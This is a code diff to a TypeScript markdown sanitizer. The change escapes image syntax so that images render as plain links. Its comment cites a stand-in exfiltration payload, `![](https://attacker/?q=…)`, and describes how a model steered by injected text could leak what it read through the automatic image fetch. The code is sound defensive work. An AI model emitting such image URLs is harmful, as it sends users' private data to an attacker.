@@ -14,7 +14,8 @@
  *   `&#64;user` renders, and mentions, as `@user`; link reference definitions, which render as
  *   nothing, are shown as written;
  * - a backtick that opens no code span is escaped, so no code span the app adds can pair with it
- *   and leave a mention outside.
+ *   and leave a mention outside;
+ * - images become links (`![a](u)` → `\![a](u)`), so nothing is fetched unless a reader clicks.
  * Fenced code blocks and code spans are left exactly as they are, and an unclosed fence is closed,
  * so the text cannot swallow what the app puts after it. What cannot be told for certain to be code
  * (indented blocks, fences in block quotes, code spans holding `|` in a text with a table, whose
@@ -205,7 +206,7 @@ const ESCAPE = "\\\\[!-\\/:-@\\[-`{-~]";
 const ENTITY = "&(?:#[0-9]{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});";
 
 const PROSE = new RegExp(
-  [CLOSING, `(?<autolink>${AUTOLINK_SOURCE})`, `(?<url>${URL_SOURCE})`, MENTION, `(?<escape>${ESCAPE})`, "(?<backtick>`)", "(?<lt><)", `(?<entity>${ENTITY})`].join("|"),
+  [CLOSING, `(?<autolink>${AUTOLINK_SOURCE})`, `(?<url>${URL_SOURCE})`, MENTION, `(?<escape>${ESCAPE})`, "(?<image>!(?=\\[))", "(?<backtick>`)", "(?<lt><)", `(?<entity>${ENTITY})`].join("|"),
   "gi",
 );
 
@@ -247,6 +248,9 @@ function neutralizeProse(text: string, context: ProseContext): string {
       return wrap(match.replace(/^\\/, ""));
     }
     if (context.plain || groups.escape !== undefined) return match;
+    // An image is fetched by every reader's browser (through GitHub's proxy): a model steered into
+    // `![](https://attacker/?q=…)` could send what it read. As a plain link it is fetched only if clicked.
+    if (groups.image !== undefined) return "\\!";
     if (groups.backtick !== undefined) return "\\`";
     if (groups.lt !== undefined) return "&lt;";
     return SAFE_ENTITIES.has(match.slice(1, -1)) ? match : `&amp;${match.slice(1)}`;
